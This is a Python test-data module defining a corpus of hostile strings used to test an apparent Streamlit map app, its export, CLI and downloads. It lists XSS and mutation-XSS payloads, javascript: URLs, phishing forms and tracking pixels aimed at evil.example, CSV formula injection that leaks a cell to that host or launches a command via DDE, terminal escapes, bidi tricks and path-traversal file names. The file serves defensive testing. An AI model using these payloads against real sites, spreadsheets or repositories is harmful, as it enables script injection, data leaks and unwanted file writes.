"""The hostile-string corpus: text that tries to run, restyle, redirect or confuse.

One place for every test that feeds hostile text to the app, the static export, the CLI or
the downloads (``tests/data/make_hostile.py`` writes them into ``tests/data/hostile/``).

Every payload that would execute sets a detectable global if it ever runs:
``window.__pwned`` (or ``parent.__pwned`` from a frame), or ``document.title = 'PWNED'``.
The two payloads kept from the first corpus set ``window.__xss`` (the app's browser tests
look them up verbatim). :data:`RAN_JS` is the one check for all of them.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

#: where a payload may be placed: ``text`` any free-text field (appended after the
#: original words); ``url`` also appended to a web address (keeps it a valid http(s) URL for
#: the validator); ``cell`` replaces the whole cell (a spreadsheet formula must come first);
#: ``long`` placed once only (just under the validator's 20,000 characters a value);
#: ``huge`` never placed in the data (the validator refuses it: too-long), only given to
#: the escaping and link-parsing functions directly
Use = Literal["text", "url", "cell", "long", "huge"]


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    use: Use
    why: str


#: a JavaScript expression (for ``page.evaluate``): true when any payload ran in the frame
RAN_JS = (
    "() => typeof window.__pwned !== 'undefined' || typeof window.__xss !== 'undefined'"
    " || document.title === 'PWNED'"
)

_RUN = "window.__pwned=1"

CORPUS: tuple[Payload, ...] = (
    # -- kept verbatim from the first corpus: tests/browser/test_hostile.py looks them up --
    Payload("legacy-img", '<img src=x onerror="window.__xss=1">', "text", "classic onerror XSS"),
    Payload("legacy-script", "<script>window.__xss=2</script>", "text", "plain script element"),
    # -- elements that run script -----------------------------------------------------------
    Payload(
        "script-title",
        "<script>window.__pwned=1;document.title='PWNED'</script>",
        "text",
        "script element that also changes the title (visible even if globals are reset)",
    ),
    Payload(
        "script-close",
        f"</script><script>{_RUN}</script>",
        "text",
        "closes an enclosing <script> (inline JSON/JS data) and opens its own",
    ),
    Payload(
        "img-unquoted",
        f"<img src=x onerror={_RUN}>",
        "text",
        "unquoted handler: escaping only quotes is not enough",
    ),
    Payload(
        "svg-onload",
        f"<svg/onload={_RUN}>",
        "text",
        "SVG onload with / as the separator, fires as soon as it is parsed",
    ),
    Payload(
        "svg-script",
        f"<svg><script>{_RUN}</script></svg>",
        "text",
        "script inside foreign (SVG) content",
    ),
    Payload(
        "details-ontoggle",
        f"<details open ontoggle={_RUN}>",
        "text",
        "event handler that fires without any user action",
    ),
    Payload(
        "input-autofocus",
        f"<input autofocus onfocus={_RUN}>",
        "text",
        "autofocus + onfocus: fires on insertion",
    ),
    Payload(
        "div-mouseover",
        f'<div onmouseover="{_RUN}" style="position:fixed;inset:0">hover</div>',
        "text",
        "full-page overlay that fires when the tester moves the mouse (opening popups)",
    ),
    Payload(
        "iframe-js",
        '<iframe src="javascript:parent.__pwned=1"></iframe>',
        "text",
        "iframe with a javascript: source",
    ),
    Payload(
        "iframe-srcdoc",
        '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
        "text",
        "srcdoc: entities inside an attribute become a live document",
    ),
    Payload(
        "object-data",
        '<object data="javascript:parent.__pwned=1"></object>',
        "text",
        "plugin element with a javascript: URL",
    ),
    Payload(
        "noscript-mxss",
        f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
        "text",
        "mutation XSS: harmless when sanitised, live when re-parsed",
    ),
    Payload(
        "math-mxss",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
        "text",
        "namespace-confusion mutation XSS (DOMPurify bypass class)",
    ),
    # -- links and URLs -----------------------------------------------------------------------
    Payload(
        "a-javascript",
        f'<a href="javascript:{_RUN}">click</a>',
        "text",
        "a link that runs script when followed",
    ),
    Payload(
        "bare-javascript",
        f"javascript:{_RUN}",
        "text",
        "bare javascript: URL, dangerous wherever text becomes an href",
    ),
    Payload(
        "tab-javascript",
        f"java\tscript:{_RUN}",
        "text",
        "browsers drop tabs in URLs: a naive 'javascript:' prefix check misses it",
    ),
    Payload(
        "data-url",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+",
        "text",
        "data: URL carrying an HTML document with a script",
    ),
    Payload(
        "url-template",
        "?q=${window.__pwned=1}",
        "url",
        "template-literal syntax inside a URL that passes the validator",
    ),
    Payload(
        "url-encoded-script",
        "?x=%22%3E%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
        "url",
        "percent-encoded quote breaker: harmful if something decodes then inserts it",
    ),
    Payload(
        "url-path-javascript",
        "/javascript:window.__pwned=1#`;window.__pwned=1;`",
        "url",
        "javascript: and a backtick inside an otherwise valid http(s) URL",
    ),
    Payload(
        "url-bidi",
        "#\u202egpj.exe",
        "url",
        "right-to-left override in a URL: the link would read as something else",
    ),
    Payload(
        "base-href",
        '<base href="https://evil.example/">',
        "text",
        "re-points every relative URL of the page (scripts, data.js) to another host",
    ),
    Payload(
        "meta-refresh",
        f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
        "text",
        "navigates the page away (or runs script) without any script element",
    ),
    Payload(
        "form-phish",
        '<form action="https://evil.example/"><input name=pw placeholder=password>'
        "<button>Log in</button></form>",
        "text",
        "a credential-phishing form inside a popup",
    ),
    Payload(
        "img-external",
        '<img src="https://evil.example/track.png">',
        "text",
        "a tracking pixel: leaks every viewer's address to another host",
    ),
    # -- JavaScript and template contexts -----------------------------------------------------
    Payload(
        "template-literal",
        "${window.__pwned=1}",
        "text",
        "runs inside a JS template literal (folium renders some text in one)",
    ),
    Payload(
        "backtick",
        f"`;{_RUN};`",
        "text",
        "ends a template literal early",
    ),
    Payload("backslash", "\\", "text", "a lone backslash escapes whatever quote follows it"),
    Payload(
        "backslash-quote",
        f'\\";{_RUN};//',
        "text",
        "backslash before a quote: breaks out of a JS string escaped by adding one backslash",
    ),
    Payload(
        "json-breaker",
        f'"}}];{_RUN};//',
        "text",
        "closes a JSON object and array inlined in a script",
    ),
    Payload(
        "line-separators",
        f"a\u2028b\u2029c;{_RUN}",
        "text",
        "U+2028/U+2029 end a line in older JS string literals",
    ),
    Payload(
        "proto",
        "__proto__",
        "text",
        "an object key that rewires a plain JS object's prototype if used as one",
    ),
    Payload(
        "angular-template",
        "{{constructor.constructor('window.__pwned=1')()}}",
        "text",
        "client-side template injection (Angular/Vue expressions)",
    ),
    Payload("jinja-template", "{{7*7}} {% raw %}", "text", "server-side template syntax"),
    # -- closing other contexts ----------------------------------------------------------------
    Payload(
        "style-close",
        f"</style><script>{_RUN}</script>",
        "text",
        "closes an enclosing <style> element",
    ),
    Payload(
        "comment-close",
        f"--><script>{_RUN}</script><!--",
        "text",
        "closes an enclosing HTML comment",
    ),
    Payload(
        "quote-breaker",
        f"\"'><script>{_RUN}</script>",
        "text",
        "closes a quoted attribute (either quote) and the tag",
    ),
    Payload(
        "attr-single",
        f"' onmouseover='{_RUN}' x='",
        "text",
        "new attribute inside a single-quoted attribute",
    ),
    Payload(
        "attr-double",
        f'" autofocus onfocus="{_RUN}" x="',
        "text",
        "new attribute inside a double-quoted attribute",
    ),
    Payload(
        "css-expression",
        f'<div style="width:expression({_RUN});background:url(javascript:{_RUN})">css</div>',
        "text",
        "CSS expression() and url(javascript:) (old IE, and a test of style sanitising)",
    ),
    Payload(
        "css-breakout",
        "red;}*{display:none!important}x{",
        "text",
        "closes a CSS declaration block: hides the whole page if text lands in a style",
    ),
    # -- encodings ------------------------------------------------------------------------------
    Payload(
        "entities",
        "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
        "text",
        "already-escaped text: double unescaping turns it into a script",
    ),
    Payload(
        "numeric-entities",
        "&#60;img src=x onerror=window.__pwned=1&#62;",
        "text",
        "numeric character references for < and >",
    ),
    Payload(
        "percent-null",
        "%00<script>window.__pwned=1</script>",
        "text",
        "an encoded NUL (a raw NUL is rightly refused by the loader: bad-encoding)",
    ),
    Payload(
        "crlf",
        "line one\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.__pwned=1</script>",
        "text",
        "CRLF: header splitting, and line breaks inside a CSV cell",
    ),
    Payload(
        "fullwidth",
        "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
        "text",
        "full-width brackets: NFKC normalisation after escaping makes them real",
    ),
    Payload(
        "ansi-escape",
        "\x1b]0;PWNED\x07\x1b[2J\x1b[31mred terminal",
        "text",
        "terminal escape codes: retitle and clear the terminal of whoever runs the CLI",
    ),
    # -- bidi, invisible and look-alike characters ----------------------------------------------
    Payload("rlo", "\u202eoverride-to-left", "text", "right-to-left override (kept verbatim)"),
    Payload(
        "rlo-filename",
        "\u202etxt.exe",
        "text",
        "the 'Trojan source' trick: reads as exe.txt",
    ),
    Payload(
        "bidi-embeddings",
        "\u202aLRE \u202bRLE \u202dLRO unterminated",
        "text",
        "embeddings and overrides left open: they would reorder the text after them",
    ),
    Payload(
        "bidi-isolates",
        "\u2066LRI \u2067RLI \u2068FSI unterminated",
        "text",
        "isolate initiators left open",
    ),
    Payload(
        "bidi-marks",
        "\u200eLRM\u200fRLM\u061cALM",
        "text",
        "directional marks",
    ),
    Payload(
        "zero-width",
        "sc\u200bri\u200cp\u200dt\ufeff",
        "text",
        "zero-width space, non-joiner, joiner and BOM: hide text from filters",
    ),
    Payload(
        "homoglyphs",
        "Y\u0430rm\u043euk \u0399S\u0399S",
        "text",
        "Cyrillic a and o, Greek capital iota: letters that look Latin",
    ),
    # -- what Streamlit's markdown would render -------------------------------------------------
    Payload(
        "md-link",
        f"[click me](javascript:{_RUN})",
        "text",
        "markdown link to javascript: (Streamlit renders markdown)",
    ),
    Payload(
        "md-image",
        "![x](https://evil.example/x.png)",
        "text",
        "markdown image: an external request from the viewer's browser",
    ),
    Payload(
        "md-blank-line-link",
        "first line\n\n[PWNED link](https://evil.example/pwned) **bold** _em_\n\nlast",
        "text",
        "a blank line ends Streamlit's HTML block: the rest would render as a live link",
    ),
    Payload(
        "md-blank-line-pixel",
        "\r\n\r\n![pixel](https://evil.example/pixel.gif?reader=1)\r\n\r\n# PWNED",
        "text",
        "CRLF blank line, then a remote image: a tracking pixel every reader would fetch",
    ),
    Payload(
        "md-autolink",
        f"<javascript:{_RUN}>",
        "text",
        "markdown autolink syntax",
    ),
    Payload(
        "latex",
        "$\\href{javascript:window.__pwned=1}{x}$ $$\\unicode{x3c}$$",
        "text",
        "KaTeX math with \\href (Streamlit markdown renders $...$)",
    ),
    Payload(
        "dollars",
        "costs $1,000 and $2,000",
        "text",
        "ordinary dollars that markdown would turn into math",
    ),
    Payload(
        "st-shortcodes",
        ":material/warning: :red[PWNED] :streamlit: :rainbow-background[x]",
        "text",
        "Streamlit icon, emoji and colour shortcodes",
    ),
    # -- spreadsheets (whole cell: a formula must start it) ---------------------------------------
    Payload(
        "formula-hyperlink",
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "cell",
        "CSV formula injection: leaks a cell when the download is opened in a spreadsheet",
    ),
    Payload(
        "formula-dde",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "cell",
        "DDE formula starting with @",
    ),
    Payload(
        "formula-plus",
        "+1+cmd|' /C calc'!A0",
        "cell",
        "formula starting with +",
    ),
    # -- size ---------------------------------------------------------------------------------
    Payload(
        "long",
        f"<script>{_RUN}</script>" * 550,
        "long",
        "18 KB of script tags in one field: layout, size and escaping at scale",
    ),
    Payload(
        "huge",
        f"<img src=x onerror={_RUN}>\u202e" * 3000,
        "huge",
        "about 100 KB: more than a data value may hold, but a link can carry it",
    ),
)

PAYLOADS: tuple[str, ...] = tuple(p.text for p in CORPUS)
BY_NAME: dict[str, Payload] = {p.name: p for p in CORPUS}

#: characters that reorder text when not isolated
BIDI_CONTROLS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def payload(name: str) -> str:
    return BY_NAME[name].text


#: entry names a crafted git tree can hold in the data folder (git accepts such a tree
#: without ``fsck``): ``mapapp review REV`` must refuse each, writing nothing anywhere
#: (bytes, as git stores them; ``/`` inside one entry is how a crafted tree spells a path)
HOSTILE_ENTRY_NAMES: tuple[tuple[str, bytes], ...] = (
    ("parent-parent", b"../../pwned.csv"),
    ("parent", b"../pwned.csv"),
    ("dot-dot", b".."),
    ("inner-parent", b"sub/../../pwned.csv"),
    ("absolute", b"/tmp/mapapp-pwned.csv"),
    ("dot", b"."),
    ("empty-part", b"a//b.csv"),
    ("backslash", b"..\\..\\pwned.csv"),
    ("drive", b"C:pwned.csv"),
    ("escape", b"\x1b[2J\x1b[1;1Hvalid.csv"),
    ("bidi", b"control\xe2\x80\xaevsc.csv"),
    ("not-utf8", b"caf\xe9.csv"),
    ("newline", b"a\nb.csv"),
)

#: text the validator must refuse, with a location (never placed in tests/data/hostile/,
#: which validates): lone surrogates, which JSON escapes can spell but no browser, page or
#: terminal can encode (one crashed the map page for every viewer, and ``mapapp export``)
UNENCODABLE_JSON_ESCAPES: tuple[tuple[str, str], ...] = (
    ("high-alone", "\\ud83d"),
    ("low-alone", "\\ude00"),
    ("reversed-pair", "\\ude00\\ud83d"),
    ("high-then-text", "Yarmouk \\ud83d camp"),
    ("escaped-at-the-end", "note \\uDBFF"),
)
#: the same characters as bytes in a CSV file (UTF-8 cannot hold them: CESU-style bytes)
UNENCODABLE_CSV_BYTES: tuple[bytes, ...] = (b"\xed\xa0\xbd", b"\xed\xb8\x80")
